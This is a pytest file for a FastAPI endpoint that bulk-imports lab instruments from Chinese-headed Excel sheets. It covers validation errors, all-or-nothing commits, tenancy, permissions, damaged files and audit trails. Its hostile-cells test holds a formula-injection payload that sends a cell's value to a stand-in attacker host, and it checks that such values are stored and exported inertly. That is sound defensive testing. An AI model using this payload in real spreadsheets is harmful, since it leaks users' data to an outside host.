"""Bulk import of instruments from the national sharing platform's spreadsheet, through the API:
the template, per-row errors, all or nothing, idempotent re-import, tenancy, the audit trail and
hostile cells."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import httpx
from fastapi import FastAPI
from openpyxl import Workbook, load_workbook

from server.registry.bulk_import import COLUMNS, XLSX_MEDIA_TYPE
from tests.harness.app import API, PROBLEM, Login
from tests.harness.factories import World

NOW = datetime(2026, 12, 2, 4, 0, tzinfo=UTC)
HEADERS = [c.zh for c in COLUMNS]


def _row(**values: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "仪器名称": "扫描电子显微镜",
        "英文名称": "Scanning electron microscope",
        "仪器分类": "分析仪器",
        "规格型号": "SU8010",
        "生产制造商": "日立",
        "产地国别": "日本",
        "原值（万元）": 386.5,
        "购置日期": date(2020, 3, 15),
        "启用日期": "2020-04-01",
        "资产编号": "ZJIM-2020-0001",
        "安放地址": "和平路 1 号 2 楼",
        "主要技术指标": "分辨率 1.0 nm (15 kV)",
        "主要功能": "形貌观察",
        "主要附件": "能谱仪",
        "联系人": "李晓梅",
        "电话": "0571-85021234",
        "邮箱": "sem@zjim.example.cn",
        "服务方式": "委托测试",
        "开放共享": "是",
    }
    base.update(values)
    return base


def _fill(rows: list[dict[str, Any]], template: bytes | None = None) -> bytes:
    """The template (or a plain sheet with its Chinese headers) filled from row 3 on."""
    if template is not None:
        workbook = load_workbook(io.BytesIO(template))
        sheet = workbook.worksheets[0]
    else:
        workbook = Workbook()
        sheet = workbook.active
        assert sheet is not None
        sheet.append(HEADERS)
        sheet.append([c.en for c in COLUMNS])
    for offset, row in enumerate(rows):
        for index, header in enumerate(HEADERS, start=1):
            cell = sheet.cell(row=3 + offset, column=index, value=row.get(header))
            if isinstance(row.get(header), str) and row[header].startswith("="):
                cell.data_type = "s"  # typed as text, as Excel stores '=... with a quote prefix
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


async def _import(
    client: httpx.AsyncClient,
    headers: dict[str, str],
    lab_id: object,
    content: bytes,
    *,
    dry_run: bool,
    filename: str = "instruments.xlsx",
) -> httpx.Response:
    return await client.post(
        f"{API}/instruments/import",
        headers=headers,
        params={"lab_id": str(lab_id), "dry_run": str(dry_run).lower()},
        files={"file": (filename, content, XLSX_MEDIA_TYPE)},
    )


async def _instrument_names(client: httpx.AsyncClient, headers: dict[str, str]) -> set[str]:
    listed = await client.get(f"{API}/instruments", headers=headers)
    assert listed.status_code == 200
    return {i["name"] for i in listed.json()}


async def test_template_round_trip_creates_three_instruments_with_audit(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    response = await client.get(f"{API}/instruments/import/template", headers=manager)
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    template = response.content
    workbook = load_workbook(io.BytesIO(template))
    sheet, example = workbook.worksheets
    assert [c.value for c in sheet[1]][:3] == ["仪器名称", "英文名称", "仪器分类"]
    assert [c.value for c in sheet[2]][:3] == ["Instrument name", "English name", "Category"]
    assert sheet.max_row == 2  # the data sheet is empty below its headers
    assert example.cell(row=3, column=1).value == "高低温湿热试验箱"
    lists = [v.formula1 for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert any("分析仪器" in f for f in lists)
    assert any("是,否" in f for f in lists)

    rows = [
        _row(),
        _row(
            **{
                "仪器名称": "高低温湿热试验箱",
                "资产编号": "ZJIM-2021-0158",
                "原值（万元）": "38.6",
                "仪器分类": "特种检测仪器",
                "服务方式": "自主操作、委托测试",
                "开放共享": "否",
            }
        ),
        _row(
            **{
                "仪器名称": "电感耦合等离子体质谱仪",
                "资产编号": 20190042,  # typed as a number
                "原值（万元）": 0.000001,  # one fen, exactly
                "购置日期": "2019年7月3日",
                "启用日期": None,
            }
        ),
    ]
    content = _fill(rows, template)
    before = await _instrument_names(client, manager)

    dry = await _import(client, manager, demo.lab.id, content, dry_run=True)
    assert dry.status_code == 200, dry.text
    report = dry.json()
    assert (report["committed"], report["created"], report["errors"]) == (False, 3, [])
    assert [r["row"] for r in report["results"]] == [3, 4, 5]
    assert await _instrument_names(client, manager) == before  # a dry run stores nothing

    done = await _import(client, manager, demo.lab.id, content, dry_run=False)
    assert done.status_code == 200, done.text
    report = done.json()
    assert (report["committed"], report["created"], report["updated"]) == (True, 3, 0)
    ids = {r["asset_number"]: r["instrument_id"] for r in report["results"]}
    assert set(ids) == {"ZJIM-2020-0001", "ZJIM-2021-0158", "20190042"}
    assert await _instrument_names(client, manager) == before | {
        "扫描电子显微镜",
        "高低温湿热试验箱",
        "电感耦合等离子体质谱仪",
    }

    chamber = (
        await client.get(f"{API}/instruments/{ids['ZJIM-2021-0158']}/record", headers=manager)
    ).json()
    assert chamber["original_value"] == "386000.00"  # 38.6 万元, exactly
    assert chamber["currency"] == "CNY"
    assert chamber["category"] == "特种检测仪器"
    assert chamber["purchase_date"] == "2020-03-15"
    assert chamber["commissioned_on"] == "2020-04-01"
    assert chamber["asset_number"] == "ZJIM-2021-0158"
    assert chamber["contact_email"] == "sem@zjim.example.cn"
    assert chamber["is_open"] is False
    icp = (await client.get(f"{API}/instruments/{ids['20190042']}/record", headers=manager)).json()
    assert icp["original_value"] == "0.01"
    assert icp["purchase_date"] == "2019-07-03"
    assert icp["commissioned_on"] is None
    sem = (
        await client.get(f"{API}/instruments/{ids['ZJIM-2020-0001']}/record", headers=manager)
    ).json()
    assert sem["original_value"] == "3865000.00"
    assert sem["is_open"] is True
    modes = await client.get(f"{API}/instruments/{ids['ZJIM-2021-0158']}", headers=manager)
    assert modes.json()["lab_id"] == str(demo.lab.id)

    audit = await client.get(f"{API}/audit", headers=manager, params={"entity": "instrument"})
    created = [e for e in audit.json() if e["action"] == "create"]
    assert {e["entity_id"] for e in created} == set(ids.values())
    assert all(e["after"]["asset_number"] in ids for e in created)
    assert {e["actor_id"] for e in created} == {str(demo.users["manager@zjim.demo"].id)}

    # The same sheet again changes nothing; one edited row updates its instrument.
    again = await _import(client, manager, demo.lab.id, content, dry_run=False)
    assert again.status_code == 200, again.text
    assert (again.json()["created"], again.json()["unchanged"]) == (0, 3)
    rows[1]["原值（万元）"] = 40
    rows[1]["服务方式"] = "自主操作"
    edited = await _import(client, manager, demo.lab.id, _fill(rows, template), dry_run=False)
    assert (edited.json()["created"], edited.json()["updated"], edited.json()["unchanged"]) == (
        0,
        1,
        2,
    )
    updates = await client.get(
        f"{API}/audit",
        headers=manager,
        params={"entity": "instrument", "entity_id": ids["ZJIM-2021-0158"]},
    )
    update = next(e for e in updates.json() if e["action"] == "update")
    # The trail's JSON carries amounts as numbers.
    assert Decimal(str(update["before"]["original_value"])) == Decimal("386000.00")
    assert Decimal(str(update["after"]["original_value"])) == Decimal("400000.00")
    assert update["after"]["service_modes"] == ["self_operated"]
    assert len(await _instrument_names(client, manager)) == len(before) + 3


async def test_every_bad_row_is_named_and_nothing_is_stored(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    rows = [
        _row(**{"仪器名称": "完好的仪器", "资产编号": "OK-1"}),
        _row(**{"仪器名称": "日期错误", "资产编号": "A-2", "购置日期": "2021-02-30"}),
        _row(**{"仪器名称": "分类错误", "资产编号": "A-3", "仪器分类": "环境设备"}),
        _row(**{"仪器名称": "方式错误", "资产编号": "A-4", "服务方式": "上门服务"}),
        _row(**{"仪器名称": "负原值", "资产编号": "A-5", "原值（万元）": -1}),
        _row(**{"仪器名称": None, "资产编号": "A-6"}),
        _row(**{"仪器名称": "重复编号", "资产编号": "OK-1"}),
        _row(**{"仪器名称": "未来日期", "资产编号": "A-8", "启用日期": "2027-01-01"}),
        _row(**{"仪器名称": "太精确", "资产编号": "A-9", "原值（万元）": "1.0000001"}),
    ]
    content = _fill(rows)
    before = await _instrument_names(client, manager)

    dry = await _import(client, manager, demo.lab.id, content, dry_run=True)
    assert dry.status_code == 200, dry.text
    found = {(e["row"], e["column"], e["code"]) for e in dry.json()["errors"]}
    assert found == {
        (4, "购置日期", "invalid_date"),
        (5, "仪器分类", "unknown_category"),
        (6, "服务方式", "unknown_service_mode"),
        (7, "原值（万元）", "negative_value"),
        (8, "仪器名称", "required"),
        (9, "资产编号", "duplicate_asset_number"),
        (10, "启用日期", "date_out_of_range"),
        (11, "原值（万元）", "value_too_precise"),
    }
    duplicate = next(e for e in dry.json()["errors"] if e["code"] == "duplicate_asset_number")
    assert "row 3" in duplicate["message"]
    assert duplicate["column_en"] == "Asset number"
    assert dry.json()["committed"] is False

    real = await _import(client, manager, demo.lab.id, content, dry_run=False)
    assert real.status_code == 422
    assert real.headers["content-type"] == PROBLEM
    problem = real.json()
    assert problem["type"] == "/problems/import-rows-invalid"
    assert problem["code"] == "import_rows_invalid"
    assert {(e["row"], e["code"]) for e in problem["row_errors"]} == {
        (row, code) for row, _, code in found
    }
    # All or nothing: the valid first row was not stored either.
    assert await _instrument_names(client, manager) == before
    audit = await client.get(f"{API}/audit", headers=manager, params={"entity": "instrument"})
    assert [e for e in audit.json() if e["action"] == "create"] == []


async def test_an_asset_number_of_another_lab_is_refused(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    first = await _import(client, manager, demo.lab.id, _fill([_row()]), dry_run=False)
    assert first.status_code == 200, first.text
    other = await client.post(f"{API}/labs", headers=manager, json={"name": "力学实验室"})
    assert other.status_code == 201
    moved = await _import(client, manager, other.json()["id"], _fill([_row()]), dry_run=True)
    assert [(e["row"], e["code"]) for e in moved.json()["errors"]] == [
        (3, "asset_number_in_other_lab")
    ]


async def test_only_the_labs_own_managers_import(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    content = _fill([_row()])
    other_institution = await _import(
        client, await login("manager@zju.demo"), demo.lab.id, content, dry_run=False
    )
    assert other_institution.status_code == 404
    for email in ("staff@zjim.demo", "buyer@jingce.demo"):
        refused = await _import(client, await login(email), demo.lab.id, content, dry_run=True)
        assert refused.status_code == 403, email
    manager = await login("manager@zjim.demo")
    assert "扫描电子显微镜" not in await _instrument_names(client, manager)
    buyer_template = await client.get(
        f"{API}/instruments/import/template", headers=await login("buyer@jingce.demo")
    )
    assert buyer_template.status_code == 403


async def test_files_that_are_not_xlsx_are_refused_with_the_reason(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    manager = await login("manager@zjim.demo")
    csv = ",".join(HEADERS).encode() + b"\n"
    cases = [
        (csv, 415, "not_zip"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, 415, "legacy_xls"),
        (b"PK\x03\x04 damaged", 415, "not_zip"),
        (b"", 415, "empty"),
    ]
    for content, status, reason in cases:
        response = await _import(client, manager, demo.lab.id, content, dry_run=True)
        assert response.status_code == status, response.text
        assert response.headers["content-type"] == PROBLEM
        assert response.json()["type"] == "/problems/import-not-xlsx"
        assert response.json()["reason"] == reason
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not a workbook")
    damaged_sheet = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_fill([_row()]))) as source,
        zipfile.ZipFile(damaged_sheet, "w") as target,
    ):
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/sheet1"):
                data = data[: len(data) // 2]  # cut off in the middle of the rows
            target.writestr(item, data)
    for content in (broken.getvalue(), damaged_sheet.getvalue()):
        response = await _import(client, manager, demo.lab.id, content, dry_run=True)
        assert response.status_code == 415, response.text
        assert response.json()["reason"] == "unreadable"
    too_large = await _import(
        client, manager, demo.lab.id, b"PK\x03\x04" + b"\0" * (5 * 1024 * 1024), dry_run=True
    )
    assert too_large.status_code == 413
    assert too_large.json()["code"] == "import_too_large"

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["名称", "型号"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    wrong = await _import(client, manager, demo.lab.id, buffer.getvalue(), dry_run=True)
    assert wrong.status_code == 422
    assert wrong.json()["code"] == "import_missing_columns"
    assert "资产编号" in wrong.json()["columns"]
    empty = await _import(client, manager, demo.lab.id, _fill([]), dry_run=True)
    assert empty.status_code == 422
    assert empty.json()["code"] == "import_no_rows"


async def test_hostile_cells_are_stored_as_plain_text(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    content = _fill(
        [
            _row(
                **{
                    "仪器名称": hostile,
                    # BEL and a vertical tab, as Excel escapes characters XML cannot hold
                    "主要功能": "形貌_x0007_观察_x000B_",
                    "联系人": "  李晓梅  ",
                }
            )
        ]
    )
    done = await _import(client, manager, demo.lab.id, content, dry_run=False)
    assert done.status_code == 200, done.text
    instrument_id = done.json()["results"][0]["instrument_id"]
    record = (await client.get(f"{API}/instruments/{instrument_id}/record", headers=manager)).json()
    assert record["name"] == hostile  # kept as the text it is; exports quote it (safe_text)
    assert record["main_functions"] == "形貌观察"
    assert record["contact_name"] == "李晓梅"

    # A real formula is refused: the server never evaluates one.
    workbook = load_workbook(io.BytesIO(_fill([_row(**{"资产编号": "F-1"})])))
    workbook.worksheets[0]["A3"] = "=1+1"
    buffer = io.BytesIO()
    workbook.save(buffer)
    formula = await _import(client, manager, demo.lab.id, buffer.getvalue(), dry_run=True)
    assert [(e["row"], e["column"], e["code"]) for e in formula.json()["errors"]] == [
        (3, "仪器名称", "formula_not_allowed")
    ]


async def test_row_and_asset_number_limits(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    rows = [_row(**{"资产编号": f"N-{i}"}) for i in range(2001)]
    too_many = await _import(client, manager, demo.lab.id, _fill(rows), dry_run=True)
    assert too_many.status_code == 422
    assert too_many.json()["code"] == "import_too_many_rows"

    done = await _import(client, manager, demo.lab.id, _fill(rows[:2]), dry_run=False)
    assert done.status_code == 200, done.text
    second = done.json()["results"][1]["instrument_id"]
    taken = await client.patch(
        f"{API}/instruments/{second}/record", headers=manager, json={"asset_number": "N-0"}
    )
    assert taken.status_code == 409
    assert "N-0" in taken.json()["detail"]


async def test_the_error_report_marks_each_row_and_imports_once_corrected(
    app: FastAPI, client: httpx.AsyncClient, demo: World, login: Login
) -> None:
    app.state.clock = lambda: NOW
    manager = await login("manager@zjim.demo")
    hostile = "=1+1"
    rows = [
        _row(**{"资产编号": "R-1", "主要附件": hostile}),
        _row(**{"资产编号": "R-2", "购置日期": "2021-13-01", "仪器分类": "环境设备"}),
    ]
    response = await client.post(
        f"{API}/instruments/import/report",
        headers=manager,
        params={"lab_id": str(demo.lab.id)},
        files={"file": ("instruments.xlsx", _fill(rows), XLSX_MEDIA_TYPE)},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[-2:] == ["原行号", "错误说明"]
    first, second = list(sheet.iter_rows(min_row=3, values_only=True))
    assert first[-2:] == (3, None)
    assert second[-2] == 4
    assert "[invalid_date]" in second[-1]
    assert "[unknown_category]" in second[-1]
    accessories = HEADERS.index("主要附件")
    assert first[accessories] == "'=1+1"  # never a formula in the report
    assert sheet.cell(row=3, column=accessories + 1).data_type == "s"
    assert (await _instrument_names(client, manager)) == {demo.instrument.name}

    # Corrected in the report itself, the report imports; the quote goes again.
    sheet.cell(row=4, column=HEADERS.index("购置日期") + 1, value="2020-03-01")
    sheet.cell(row=4, column=HEADERS.index("仪器分类") + 1, value="计量仪器")
    buffer = io.BytesIO()
    workbook.save(buffer)
    done = await _import(client, manager, demo.lab.id, buffer.getvalue(), dry_run=False)
    assert done.status_code == 200, done.text
    assert done.json()["created"] == 2
    stored = done.json()["results"][0]["instrument_id"]
    record = (await client.get(f"{API}/instruments/{stored}/record", headers=manager)).json()
    assert record["accessories"] == hostile
